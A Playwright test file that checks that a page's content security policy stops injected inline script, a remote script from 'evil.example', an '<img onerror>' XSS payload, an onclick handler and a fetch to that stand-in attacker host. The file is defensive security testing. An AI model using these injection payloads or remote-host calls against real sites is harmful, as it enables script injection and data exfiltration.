import { expect, test } from '../support/pages'

declare global {
  interface Window {
    injected?: boolean
  }
}

test.use({ allowFaults: true })

test('what somebody smuggles into a page neither runs nor sends: an inline script, one from elsewhere, markup, data', async ({
  page,
  faults,
}) => {
  await page.route('/', async (route) => {
    const response = await route.fetch()
    const html = await response.text()
    await route.fulfill({
      response,
      body: html.replace('</body>', '<script>window.injected = true</script></body>'),
    })
  })
  await page.goto('/')
  expect(await page.evaluate(() => window.injected)).toBeUndefined()
  await expect.poll(() => faults.join()).toContain('script-src')

  await page.unroute('/')
  await page.goto('/')
  const refused = await page.evaluate(() =>
    [
      () => {
        document.createElement('script').src = 'https://evil.example/x.js'
      },
      () => {
        document.body.innerHTML = '<img src=x onerror=alert(1)>'
      },
      () => {
        document.body.setAttribute('onclick', 'alert(1)')
      },
    ].map((attack) => {
      try {
        attack()
        return 'ran'
      } catch (error) {
        return (error as Error).name
      }
    }),
  )
  expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError'])

  const sent = await page.evaluate(() =>
    fetch('https://evil.example/').then(
      () => true,
      () => false,
    ),
  )
  expect(sent).toBe(false)
  await expect.poll(() => faults.join()).toContain('connect-src')
})
